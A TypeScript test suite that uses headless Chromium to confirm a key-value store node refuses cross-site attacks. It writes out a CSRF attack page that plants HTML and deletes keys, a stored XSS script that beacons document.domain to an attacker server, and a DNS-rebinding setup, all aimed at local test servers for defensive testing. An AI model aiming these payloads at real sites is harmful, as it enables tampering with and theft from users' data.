import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { CHROMIUM_SKIP, launchChromium } from '../support/chromium.js';
import { Fleet } from '../support/fleet.js';
import { waitFor } from '../support/wait-for.js';

/**
 * The attacks of issue 11's finding 6 from a real headless Chromium: a page on another origin
 * (a small server on another loopback port) tries to plant an HTML value and to delete a key;
 * a stored HTML value is opened directly; a page under a DNS-rebound name calls the node. And
 * the sign-in form of finding 12, without JavaScript.
 */

let browser: Browser;
before(async () => {
  if (CHROMIUM_SKIP) return;
  // What DNS rebinding achieves: a foreign name that resolves to this host's loopback.
  browser = await launchChromium(['--host-resolver-rules=MAP rebind.test 127.0.0.1']);
});
after(async () => {
  await browser?.close();
});

/** The attacker's site: serves `page` at / and records every other path it is asked for. */
async function attackerSite(page: () => string) {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    if (request.url === '/') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(page());
      return;
    }
    hits.push(request.url ?? '');
    response.writeHead(204, { 'access-control-allow-origin': '*' });
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = () => new Promise<void>((resolve) => server.close(() => resolve()));
  return { origin, hits, close };
}

describe('a page on another origin, in Chromium', { skip: CHROMIUM_SKIP }, () => {
  let fleet: Fleet;
  let attacker: Awaited<ReturnType<typeof attackerSite>>;
  before(async () => {
    fleet = await Fleet.start(1);
    const target = fleet.node(0).url('');
    // Everything the review's attack page did: a multipart post of a text/html file (the
    // file keeps its type), a DELETE by fetch, and a classic auto-submitted form to /delete.
    attacker = await attackerSite(
      () => `<!doctype html><title>attacker</title>
<form id="del" method="post" action="${target}/delete" target="sink">
  <input name="key" value="victim">
</form>
<iframe name="sink"></iframe>
<script>
window.attack = (async () => {
  const out = {};
  const form = new FormData();
  form.set('key', 'planted');
  form.set('value', new Blob(['<script>alert(1)</scr' + 'ipt>'], { type: 'text/html' }), 'x.html');
  try {
    await fetch('${target}/post', { method: 'POST', body: form, mode: 'no-cors' });
    out.post = 'sent';
  } catch (error) { out.post = String(error); }
  try {
    await fetch('${target}/keys/victim', { method: 'DELETE' });
    out.remove = 'sent';
  } catch (error) { out.remove = String(error); }
  document.getElementById('del').submit();
  return out;
})();
</script>`,
    );
  });
  after(async () => {
    await attacker?.close();
    await fleet?.close();
  });

  test('cannot post an HTML value or delete a key', async () => {
    const node = fleet.node(0);
    assert.equal((await node.post('/post', { key: 'victim', value: 'still here' })).status, 200);
    const refused = () => node.metric('diststore_http_refused_total', 'reason="cross_site"');
    const before = await refused();
    const page = await browser.newPage();
    try {
      await page.goto(`${attacker.origin}/`);
      const outcome = await page.evaluate('window.attack');
      // The no-cors post is sent (the answer is opaque to the page); the DELETE stops at its
      // CORS preflight in the browser; the form post is sent.
      assert.equal((outcome as { post: string }).post, 'sent');
      // The post and the form's delete reach the node and are refused there.
      await waitFor(async () => (await refused()) >= before + 2, 'two cross-site refusals');
    } finally {
      await page.close();
    }
    assert.equal((await node.get('/get-local/planted')).status, 404, 'nothing planted');
    const victim = await node.get('/get/victim');
    assert.equal(victim.status, 200, 'the key was not deleted');
    assert.equal(await victim.text(), 'still here');
    assert.match(
      node.output,
      new RegExp(`refused request.*${attacker.origin}|${attacker.origin}.*refused request`),
    );
  });

  test('a stored HTML value opened directly does not run; text stays text', async () => {
    const node = fleet.node(0);
    // Stored by a program (no Origin): what an attacker with write access could plant.
    const script = `<script>fetch('${attacker.origin}/ran?' + document.domain)</script>`;
    const form = new FormData();
    form.set('key', 'evil');
    form.set('value', new Blob([script], { type: 'text/html' }), 'evil.html');
    assert.equal((await fetch(node.url('/post'), { method: 'POST', body: form })).status, 200);
    assert.equal((await node.post('/post', { key: 'plain', value: script })).status, 200);

    const context = await browser.newContext({ acceptDownloads: true });
    try {
      const page = await context.newPage();
      // Downloaded, never rendered on the node's origin: the page stays where it was. (Not
      // Playwright's download event: under CI's load it once did not come within 30 s.)
      const answered = page.waitForResponse((r) => r.url() === node.url('/get/evil'));
      const opened = await page.goto(node.url('/get/evil')).then(
        (response) => `rendered ${response?.status()}`,
        (error: Error) => error.message,
      );
      assert.equal((await answered).headers()['content-disposition'], 'attachment', opened);
      assert.match(opened, /Download is starting|ERR_ABORTED/);
      assert.equal(page.url(), 'about:blank');

      await page.goto(node.url('/get/plain'));
      assert.equal(await page.evaluate(() => document.querySelectorAll('script').length), 0);
      assert.equal(await page.evaluate(() => document.body.textContent), script);
    } finally {
      await context.close();
    }
    assert.deepEqual(
      attacker.hits.filter((hit) => hit.startsWith('/ran')),
      [],
      'no stored script ran',
    );
  });
});

describe('a DNS-rebound name, in Chromium', { skip: CHROMIUM_SKIP }, () => {
  let fleet: Fleet;
  before(async () => {
    fleet = await Fleet.start(1);
  });
  after(async () => {
    await fleet?.close();
  });

  test('the node answers nothing but 403 to a page under another name', async () => {
    const node = fleet.node(0);
    assert.equal((await node.post('/post', { key: 'secret-ish', value: 'x' })).status, 200);
    const page = await browser.newPage();
    try {
      // Same origin as the node in the browser's eyes: Origin checks cannot tell.
      const keys = await page.goto(`http://rebind.test:${node.port}/keys`);
      assert.equal(keys?.status(), 403);
      assert.doesNotMatch(await page.content(), /secret-ish/);
      const posted = await page.evaluate(async () => {
        const answer = await fetch('/post', {
          method: 'POST',
          body: new URLSearchParams({ key: 'rebound', value: 'x' }),
        });
        return answer.status;
      });
      assert.equal(posted, 403);
    } finally {
      await page.close();
    }
    assert.equal((await node.get('/get-local/rebound')).status, 404);
  });
});

describe('the sign-in form, in Chromium without JavaScript', { skip: CHROMIUM_SKIP }, () => {
  const TOKEN = 'browser-client-token-0123456789';
  let fleet: Fleet;
  before(async () => {
    fleet = await Fleet.start(1, { token: TOKEN });
  });
  after(async () => {
    await fleet?.close();
  });

  test('asks for the token once, then the page and its forms work', async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    try {
      const page = await context.newPage();
      const node = fleet.node(0);
      const first = await page.goto(node.url('/'));
      assert.equal(first?.status(), 401);
      const signIn = page.getByTestId('sign-in-form');
      await signIn.getByLabel('Client token').fill('not-the-token-0123456789');
      await signIn.getByRole('button', { name: 'Sign in' }).click();
      await page.waitForSelector('[data-testid="sign-in-error"]');

      await page.getByLabel('Client token').fill(TOKEN);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.waitForSelector('[data-testid="post-form"]');
      const cookie = (await context.cookies()).find((c) => c.name === 'diststore_token');
      assert.ok(cookie, 'the token is kept in a cookie');
      assert.equal(cookie.httpOnly, true);
      assert.equal(cookie.sameSite, 'Strict');

      const postForm = page.getByTestId('post-form');
      await postForm.getByLabel('Key').fill('signed-in');
      await postForm.getByLabel('Value').fill('by the page');
      await postForm.getByRole('button', { name: 'Post' }).click();
      await page.waitForURL('**/ui/post');
      assert.equal(
        (await page.getByTestId('result-title').textContent())?.trim(),
        'Stored signed-in',
      );
      // A new visit is not asked again.
      const again = await page.goto(node.url('/?key=signed-in'));
      assert.equal(again?.status(), 200);
      assert.equal(await page.getByTestId('result-value').textContent(), 'by the page');
    } finally {
      await context.close();
    }
  });
});
